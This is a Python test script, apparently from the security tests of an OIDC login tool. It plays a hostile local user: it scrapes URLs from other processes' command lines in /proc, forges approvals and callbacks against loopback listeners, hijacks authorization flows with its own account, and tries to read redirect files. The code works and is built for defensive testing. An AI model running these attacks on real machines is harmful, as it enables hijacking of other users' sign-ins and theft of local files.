"""Another local user's program (issue 56 item 1), run as that OS user: it reads the test's processes'
command lines, as any user may (``/proc/<pid>/cmdline``), and attacks every address it finds there, until killed:

- a loopback address: it is fetched (its forwarding followed once); an approval page found is answered
  "Send" with a forged ``Origin``; the listener's ``/start`` and ``/callback`` (a forged code and state)
  are probed too;
- an authorization URL (or one a loopback address forwards to): it signs in there as ``login``, its own
  account, and delivers the provider's redirect to the loopback listener, as a browser would
  (:func:`oidc_browser.approve`);
- a file (a redirect file): it tries to read it.

Each attempt is one JSON line on stdout: ``{"kind": ..., "status": ..., "answer": ...}``. Standard library
only (it runs on the system's Python): ``python3 local_attacker.py LOGIN PID``, where only the processes
below PID (the test's) are attacked: a real attacker reads all, but other test runs on this machine are
not this test's to attack.
"""

from __future__ import annotations

import json
import os
import re
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

from oidc_browser import approve

_URL = re.compile(rb"(?:https?|file)://[^\s\"'<>\x00]+")
_CSRF = re.compile(r'name="csrf" value="([^"]+)"')
_DIGEST = re.compile(r'name="digest" value="([^"]+)"')
_MARKUP = re.compile(r"<(style|title)\b.*?</\1>|<[^>]+>", re.DOTALL)
_lock = threading.Lock()


class _Stay(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: object, **kwargs: object) -> None:
        return None


def report(kind: str, status: object, answer: str = "") -> None:
    """One attempt's line; ``answer`` a page's text (its markup and style left out)."""
    text = " ".join(_MARKUP.sub(" ", answer).split())
    with _lock:
        print(json.dumps({"kind": kind, "status": status, "answer": text[:600]}), flush=True)


def fetch(url: str, data: bytes | None = None, headers: dict[str, str] | None = None) -> tuple[int, str, str]:
    """The status, Location and body of one request (no redirect followed)."""
    request = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.build_opener(_Stay()).open(request, timeout=10) as answer:
            return answer.status, "", answer.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as refused:
        return refused.code, refused.headers.get("Location") or "", refused.read().decode("utf-8", "replace")


def is_authorization(url: str) -> bool:
    query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))
    return "redirect_uri" in query and "state" in query


def sign_in_as_attacker(url: str, login: str) -> None:
    try:
        landed = approve(url, login)
        report("sign_in", "delivered", landed.split("?", 1)[0])
    except Exception as error:
        report("sign_in", "failed", f"{type(error).__name__}: {error}")


def answer_send(url: str, page: str) -> None:
    csrf, digest = _CSRF.search(page), _DIGEST.search(page)
    if csrf is None or digest is None:
        return
    origin = "{0.scheme}://{0.netloc}".format(urllib.parse.urlsplit(url))
    body = urllib.parse.urlencode({"csrf": csrf.group(1), "digest": digest.group(1), "decision": "approve"})
    headers = {"Origin": origin, "Content-Type": "application/x-www-form-urlencoded"}
    status, _, answer = fetch(url, body.encode(), headers)
    report("approval_send", status, answer)


def attack_loopback(url: str, login: str) -> None:
    parts = urllib.parse.urlsplit(url)
    base = f"{parts.scheme}://{parts.netloc}"
    status, location, page = fetch(url)
    report("loopback_get", status, page)
    if location:
        target = urllib.parse.urljoin(url, location)
        if is_authorization(target):
            sign_in_as_attacker(target, login)
            return
        status, _, page = fetch(target)
        report("loopback_forwarded", status, page)
        url = target
    answer_send(url, page)
    for probe in ("/start", "/callback?code=forged&state=forged"):
        status, _, page = fetch(base + probe)
        report("probe", status, page)


def attack(url: str, login: str) -> None:
    try:
        parts = urllib.parse.urlsplit(url)
        if parts.scheme == "file":
            try:
                with open(urllib.parse.unquote(parts.path), encoding="utf-8") as file:
                    report("file", "read", file.read())
            except OSError as error:
                report("file", "refused", type(error).__name__)
        elif parts.hostname in ("127.0.0.1", "localhost") and not is_authorization(url):
            attack_loopback(url, login)
        elif is_authorization(url):
            sign_in_as_attacker(url, login)
    except Exception as error:
        report("error", type(error).__name__, str(error))


def _parents() -> dict[int, int]:
    """Every process's parent, each read once (``/proc/<pid>/stat``: after the command's name, its state
    and then its parent)."""
    parents = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/stat", encoding="utf-8", errors="replace") as file:
                    parents[int(name)] = int(file.read().rpartition(")")[2].split()[1])
            except (OSError, ValueError, IndexError):
                pass
    return parents


def _descendants(under: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for pid, parent in _parents().items():
        children.setdefault(parent, []).append(pid)
    found, below = set(), [under]
    while below:
        for child in children.get(below.pop(), ()):
            if child not in found:
                found.add(child)
                below.append(child)
    return found


def command_lines(under: int) -> list[bytes]:
    """The command lines of the processes below ``under`` (any user may read them; only the test's own
    are attacked, so that test runs of others on this machine are left alone)."""
    lines = []
    for pid in _descendants(under) - {os.getpid()}:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                lines.append(file.read())
        except OSError:
            pass
    return lines


def main(login: str, under: int) -> None:
    ignored = {url for line in command_lines(under) for url in _URL.findall(line)}  # there before us
    report("started", os.getuid())
    while True:
        for line in command_lines(under):
            for found in _URL.findall(line):
                if found not in ignored:
                    ignored.add(found)
                    url = found.decode("utf-8", "replace")
                    threading.Thread(target=attack, args=(url, login), daemon=True).start()
        # Each look reads every process's stat: a fifth of a core at this pace, a whole one at 5 ms. The
        # user's browser waits for this program's attempts (the test's gate), so the pace costs it none.
        time.sleep(0.02)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
